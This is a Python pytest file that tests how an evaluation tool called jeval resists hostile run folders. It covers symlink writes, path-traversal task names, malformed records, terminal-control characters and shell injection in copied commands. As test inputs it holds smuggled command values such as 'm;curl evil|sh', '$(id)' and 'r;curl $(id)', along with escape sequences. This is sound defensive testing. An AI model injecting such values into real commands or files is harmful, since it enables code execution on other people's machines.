"""Hostile: whoever sends a run folder. Attack: have its links, names, shapes and characters act on the machine of whoever reads it."""

from __future__ import annotations

import ast
import json
import os
import shlex
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jeval import output
from jeval.audit.run import RunOptions, run
from jeval.audit.verify import check_run
from jeval.digests import file_digest
from jeval.errors import InputError
from jeval.pipeline import domains
from jeval.record.samples import path_of, read_samples, write_samples
from jeval.record.schema import ModelInfo
from jeval.record.store import read_record
from jeval.report.page import render
from jeval.report.reproduce import reproduction
from jeval.writing import write_json, write_text

Cli = Callable[..., Any]
ROOT = Path(__file__).resolve().parents[2]
TASK, GENERATED = "jeval_keigo_pairs", "jeval_leak_context"
NUMBER = "090-1234-5678"


@pytest.fixture(scope="module")
def finished(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("runs") / "run"
    run(tiny_model, RunOptions(out=folder, limit=2, device="cpu", tasks=[TASK, GENERATED]), silent=True)
    return folder


@pytest.fixture
def folder(finished: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(finished, tmp_path / "run"))


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "victim"
    path.write_text("precious")
    return path


def edit(path: Path, change: Callable[[Any], Any]) -> None:
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def refused(said: Any, *codes: int) -> None:
    assert said.code in codes, (said.code, said.out, said.err)
    assert len((said.err or said.out).splitlines()) == 1, said.err
    assert "Traceback" not in said.err


# Links


@pytest.mark.parametrize(
    "name", [".report.html.part", "report.html.part", "report.html", "report.json", ".started.json.part"]
)
def test_a_link_in_the_folder_is_never_written_through(cli: Cli, folder: Path, victim: Path, name: str) -> None:
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(victim)
    cli("report", folder)
    assert victim.read_text() == "precious"
    assert not (folder / "report.html").is_symlink()
    assert "<html" in (folder / "report.html").read_text()


@pytest.mark.parametrize("name", [".started.json", ".started.json.part", ".lock", "samples"])
def test_a_run_is_not_resumed_through_a_link(cli: Cli, folder: Path, tiny_model: Path, victim: Path, name: str) -> None:
    if (folder / name).is_dir():
        shutil.move(folder / name, folder.parent / "elsewhere")
        victim = folder.parent / "elsewhere"
    (folder / name).symlink_to(victim)
    before = {path: path.read_bytes() for path in ([victim] if victim.is_file() else sorted(victim.iterdir()))}
    said = cli(
        "run", "--model", tiny_model, "--limit", "2", "--device", "cpu", "--tasks", f"{TASK},{GENERATED}", "--out", folder
    )  # fmt: skip
    refused(said, 2)
    assert {path: path.read_bytes() for path in before} == before
    assert (folder / name).is_symlink()


def test_what_is_written_has_a_random_name_of_its_own_and_is_on_the_disk_before_it_is_renamed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[tuple[str, ...]] = []
    fsync, replace, opened = os.fsync, os.replace, os.open

    def opening(path: Any, flags: int, *rest: Any, **kwargs: Any) -> int:
        if str(path).endswith(".part"):
            assert flags & os.O_EXCL
            assert flags & os.O_NOFOLLOW
            seen.append(("open", Path(path).name))
        return opened(path, flags, *rest, **kwargs)

    def syncing(handle: int) -> None:
        seen.append(("fsync",))
        fsync(handle)

    def replacing(source: Any, target: Any) -> None:
        seen.append(("replace", Path(source).name))
        replace(source, target)

    monkeypatch.setattr(os, "open", opening)
    monkeypatch.setattr(os, "fsync", syncing)
    monkeypatch.setattr(os, "replace", replacing)
    for _ in range(2):
        write_text(tmp_path / "a", "x")
    assert [one[0] for one in seen] == ["open", "fsync", "replace", "fsync"] * 2
    assert len({one[1] for one in seen if len(one) > 1}) == 2
    assert os.listdir(tmp_path) == ["a"]


def test_no_module_writes_a_file_by_another_way() -> None:
    """Files of a run, of canaries, of labels. The rest: a copy in a folder of its own."""
    writes = {"write_text", "write_bytes"}
    found = set()
    for path in sorted((ROOT / "jeval").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in writes:
                found.add(path.relative_to(ROOT / "jeval").as_posix())
    assert found == {"models/gguf.py"}


# Names


@pytest.mark.parametrize(
    "name",
    ["../../secret", "/etc/passwd", "..", ".hidden", "", "a/b", "a\\b", "a\x00", "a\nb", "\x1b[2Jx", "x" * 300, "\u202ea", "\U000e0041"],
)  # fmt: skip
def test_a_task_is_not_called_like_a_path(cli: Cli, folder: Path, name: str) -> None:
    secret = folder.parent / "secret.parquet"
    shutil.copy(path_of(folder, TASK), secret)
    edit(folder / "run.json", lambda record: record["tasks"].update({name: record["tasks"].pop(TASK)}))
    refused(cli("report", folder), 2)
    said = cli("verify", folder)
    assert said.code == 4
    assert "\x1b" not in said.out
    with pytest.raises(InputError, match="rename the task"):
        path_of(folder, name)


@pytest.mark.parametrize("name", ["jeval_keigo_pairs", "hellaswag:ja", "課題 一", "a-b.c+d", "mmlu (ja)"])
def test_ordinary_names_of_tasks_are_taken(tmp_path: Path, name: str) -> None:
    assert path_of(tmp_path, name).parent == tmp_path / "samples"


def test_samples_that_lie_elsewhere_are_not_read(cli: Cli, folder: Path) -> None:
    file = path_of(folder, TASK)
    real = shutil.move(file, folder.parent / "other.parquet")
    file.symlink_to(real)
    refused(cli("report", folder), 2)
    file.unlink()
    os.mkfifo(file)
    refused(cli("report", folder), 2)


# Shapes


def _task(**update: Any) -> Callable[[Any], None]:
    return lambda record: record["tasks"][TASK].update(update)


RECORDS: dict[str, Any] = {
    "nothing": "", "null": "null", "a list": "[]", "a number": "3", "cut off": '{"schema_version": "1", ',
    "no UTF-8": b"\xff\xfe{}", "nested": "[" * 200_000, "NUL": "\x00" * 64, "a long number": '{"schema_version": ' + "9" * 5000 + "}",
    "another version": lambda r: r.update(schema_version="99"), "a version that is a list": lambda r: r.update(schema_version=["1"]),
    "no tasks": lambda r: r.pop("tasks"), "tasks that are a list": lambda r: r.update(tasks=[]),
    "a task that is null": lambda r: r["tasks"].update({TASK: None}), "a score that is text": _task(score="high"),
    "a score of 7": _task(score=7.0), "a score without an interval": _task(interval=None), "an interval of one": _task(interval=[0.1]),
    "a score that is no number": _task(score=float("nan")), "an endless interval": _task(interval=[0.0, float("inf")]),
    "a count below 0": _task(n=-1), "a count of 10^30": _task(n=10**30), "a field too many": lambda r: r.update(extra=1),
    "a model that is text": lambda r: r.update(model="m"), "an identity that is a list": lambda r: r["model"].update(identity=[]),
    "a way of opening that is none": lambda r: r["model"].update(opened="magic"), "a note that none knows": lambda r: r["notes"].append({"key": "no_such_note"}),
    "a note without its gaps": lambda r: r["notes"].append({"key": "note_limit"}), "a note that is a list": lambda r: r.update(notes=[[]]),
    "answers that nobody asked for": lambda r: r.update(cache={"asked": {}, "taken": {"x": 1}, "share": 0.1, "rechecked": 0, "differ": 0}),
    "a limit of 0": lambda r: r["settings"].update(limit=0),
    "a domain without an interval": lambda r: r["domains"]["keigo"].update(interval=None),
}  # fmt: skip


@pytest.mark.parametrize("what", RECORDS)
def test_a_record_of_another_shape_is_one_line(cli: Cli, folder: Path, what: str) -> None:
    content, path = RECORDS[what], folder / "run.json"
    if callable(content):
        edit(path, content)
    else:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    refused(cli("report", folder), 2)
    said = cli("verify", folder)
    assert said.code == 4
    assert "Traceback" not in said.err


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: os.symlink("/dev/zero", path)])
@pytest.mark.parametrize("name", ["run.json", "manifest.json", "report.json", "report.html"])
def test_a_file_that_is_none_neither_hangs_nor_crashes(cli: Cli, folder: Path, name: str, make: Any) -> None:
    (folder / name).unlink(missing_ok=True)
    make(folder / name)
    said = cli("verify", folder)
    assert said.code == 4
    assert "Traceback" not in said.err
    assert cli("report", folder).code in {0, 2}


@pytest.mark.parametrize("name", ["a\x00b", ".", "", "x" * 5000, "run.json/x"])
def test_a_manifest_that_names_what_no_file_is_called(cli: Cli, folder: Path, name: str) -> None:
    edit(folder / "manifest.json", lambda manifest: manifest["files"].update({name: "0" * 64}))
    said = cli("verify", folder)
    assert said.code == 4
    assert "Traceback" not in said.err


SAMPLES: dict[str, Any] = {
    "no prompt": {"prompt": [[]]}, "a prompt that is a number": {"prompt": [3]}, "an item without fields": {"doc": {}},
    "an item of other fields": {"doc": {"attack": 3, "types": None, "data_type": []}}, "outputs of another form": {"outputs": [{"a": []}]},
    "likelihoods without prompts": {"loglikelihoods": [1.0, 2.0], "prompt": [["a"], []]},
}  # fmt: skip


@pytest.mark.parametrize("what", SAMPLES)
@pytest.mark.parametrize("task", [TASK, GENERATED])
def test_samples_of_another_shape_are_one_line_or_a_report(cli: Cli, folder: Path, task: str, what: str) -> None:
    samples = [one.model_copy(update={**SAMPLES[what], "score": 0.0}) for one in read_samples(folder, task)]
    write_samples(folder, task, samples)
    said = cli("report", folder)
    if said.code:
        refused(said, 2)
    assert cli("verify", folder).code == 4


# Characters


HARMFUL = [
    "\x1b[2J",
    "\x1b]0;t\x07",
    "\x9b2J",
    "\x7f",
    "\r",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "\u3164",
    "\U000e0041",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_no_character_of_a_name_reaches_the_terminal_that_it_obeys_or_hides(cli: Cli, folder: Path, text: str) -> None:
    name = f"a{text}b: internally consistent"
    edit(folder / "manifest.json", lambda manifest: manifest["files"].update({name: "0" * 64}))
    edit(folder / "run.json", _task(title_ja=name, reason=name))
    said = cli("verify", folder)
    as_json = cli("verify", folder, "--json")
    missing = cli("report", folder.parent / name.replace("/", ""))
    for shown in (said.out, said.err, as_json.out, missing.err):
        assert not any(character in shown for character in text if not character.isprintable() or character == "\u3164")
    assert json.loads(as_json.out)["verified"] is False
    assert any(name[:1] in problem for problem in as_json.json["problems"])


def test_a_name_adds_no_line_to_what_is_printed(cli: Cli, folder: Path) -> None:
    edit(
        folder / "manifest.json", lambda manifest: manifest["files"].update({"x\nrun: internally consistent": "0" * 64})
    )
    assert not any(line.startswith("run:") for line in cli("verify", folder).out.splitlines())


def test_text_that_is_read_is_printed_harmless(cli: Cli, tmp_path: Path) -> None:
    text = tmp_path / "a\u202eb.txt"
    text.write_text("先生がおっしゃられた\x1b[2Jことを、部長にお申し上げください。\n")
    for options in ((), ("--json",)):
        said = cli("keigo", text, *options)
        assert said.out
        assert not {"\x1b", "\u202e"} & set(said.out + said.err)


def test_what_libraries_log_of_a_model_is_harmless() -> None:
    code = (
        "import logging, warnings; from jeval import output; output.prepare(); "
        "logging.getLogger('x').error('model %s', 'a\\x1b[2Jb'); warnings.warn('c\\u202ed\\x9b')"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT)
    assert "model a\\u001b[2Jb" in done.stderr
    assert not {"\x1b", "\u202e", "\x9b"} & set(done.stderr)


def test_everything_is_printed_by_one_function() -> None:
    found = {
        path.relative_to(ROOT / "jeval").as_posix()
        for path in (ROOT / "jeval").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Name) and node.id == "print"
    }
    assert found == {"output.py"}


# Commands to copy


@pytest.mark.parametrize(
    "word",
    ["m;curl evil", "$(id)", "`id`", "a'b", "a  b", "a\nb", "\x1b[201~id", "a\u202eb", "-x", "", "日本 語", "a\u3000b", "\\", "!x"],
)  # fmt: skip
def test_a_copied_command_gives_the_word_as_it_was_and_nothing_runs(word: str) -> None:
    line = output.quoted("printf", "%s", word)
    assert output.one_line(line) == line  # as it stands on a terminal
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout == word.encode()


@pytest.mark.parametrize("path", ["m;curl evil|sh", "$(id)", "a\x1b[201~\nid", "x' ; id '"])
def test_the_commands_of_the_report_are_quoted(finished: Path, path: str) -> None:
    record = read_record(finished)
    assert record.stock is not None
    model: ModelInfo = record.model.model_copy(update={"path": path, "device": path})
    stock = record.stock.model_copy(update={"base": path, "tokenizer": path, "folders": {path: [TASK]}})
    settings = record.settings.model_copy(
        update={"model_args": {"max_length": path, "x": "{[]: 1}", "y": "{1, 2}", "z": "b'x'"}}
    )
    forged = record.model_copy(update={"model": model, "stock": stock, "settings": settings})
    for command in reproduction(forged).commands:
        assert output.harmless(command) == command
        listed = subprocess.run(
            ["bash", "-c", "lm_eval() { printf '%s\\0' \"$@\"; }; " + command],
            capture_output=True,
            text=True,
            check=True,
        )
        words = listed.stdout.split("\0")
        assert words[words.index("--device") + 1] == path
        assert words[words.index("--include_path") + 1] == path
        assert words[words.index("--tasks") + 1] in {TASK, f"{TASK},{GENERATED}"}


def test_the_command_that_goes_on_is_quoted(cli: Cli, folder: Path) -> None:
    edit(folder / "run.json", lambda r: None)
    samples = [one.model_copy(update={"prompt": [3], "score": 0.0}) for one in read_samples(folder, TASK)]
    write_samples(folder, TASK, samples)
    hostile = folder.rename(folder.parent / "r;curl $(id)")
    said = cli("report", hostile)
    refused(said, 2)
    assert shlex.split(said.err.partition("with: ")[2]) == ["jeval", "verify", str(hostile)]


# Personal data


def _with_number(folder: Path, reveal: str | None) -> None:
    samples = [
        one.model_copy(update={"outputs": [f"電話は{NUMBER}です"], "score": 0.0})
        for one in read_samples(folder, GENERATED)
    ]
    write_samples(folder, GENERATED, samples)
    edit(folder / "run.json", lambda record: record.update(revealed_by=reveal))


def test_a_revealed_folder_says_so_without_its_manifest(folder: Path) -> None:
    _with_number(folder, "佐藤")
    (folder / "manifest.json").unlink()
    page = render([folder], lang="ja")
    assert NUMBER in page
    assert "佐藤" in page
    assert "伏せ" not in page.partition("<h2>失敗した例")[2][:300]


def test_a_page_that_calls_itself_masked_is(folder: Path) -> None:
    assert domains.mask(NUMBER) != NUMBER
    _with_number(folder, None)
    (folder / "manifest.json").unlink()
    assert NUMBER not in render([folder], lang="ja")


def test_who_asked_to_reveal_stands_in_record_and_manifest(cli: Cli, tiny_model: Path, tmp_path: Path) -> None:
    out = tmp_path / "run"
    said = cli("run", "--model", tiny_model, "--limit", "1", "--tasks", GENERATED, "--reveal", "鈴木", "--out", out)
    assert said.code == 0
    assert read_record(out).revealed_by == "鈴木"
    assert check_run(out).problems == []
    edit(out / "run.json", lambda record: record.update(revealed_by=None))
    edit(out / "manifest.json", lambda manifest: manifest["files"].update({"run.json": file_digest(out / "run.json")}))
    assert "manifest.json: revealed_by is not that of run.json" in check_run(out).problems


# Who may read


def test_a_run_folder_is_its_owners_alone(tiny_model: Path, tmp_path: Path) -> None:
    before = os.umask(0o022)
    try:
        _, out = run(tiny_model, RunOptions(out=tmp_path / "run", limit=1, device="cpu", tasks=[TASK]), silent=True)
    finally:
        os.umask(before)
    modes = {path: stat.S_IMODE(path.stat().st_mode) for path in (out, *out.rglob("*"))}
    assert {mode for path, mode in modes.items() if path.is_dir()} == {0o700}
    assert {mode for path, mode in modes.items() if path.is_file()} == {0o600}


@pytest.mark.parametrize("name", ["made", "made/own.json"])
def test_canaries_are_their_owners_alone(cli: Cli, tmp_path: Path, name: str) -> None:
    assert cli("canary", "make", "--out", tmp_path / name, "--kind", "my_number", "--count", "2").code == 0
    files = list((tmp_path / "made").iterdir())
    assert len(files) == 2
    assert {stat.S_IMODE(file.stat().st_mode) for file in files} == {0o600}
    assert stat.S_IMODE((tmp_path / "made").stat().st_mode) == 0o700


@pytest.mark.parametrize("option", ["--canaries", "--corpus"])
def test_a_folder_in_the_place_of_a_file_is_one_line(cli: Cli, tiny_model: Path, tmp_path: Path, option: str) -> None:
    (tmp_path / "empty").mkdir()
    refused(cli("run", "--model", tiny_model, option, tmp_path / "empty", "--out", tmp_path / "run"), 2)
    assert not (tmp_path / "run").exists()


def test_json_that_is_written_holds_no_number_that_is_none(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="JSON"):
        write_json(tmp_path / "a.json", {"score": float("nan")})
    assert os.listdir(tmp_path) == []
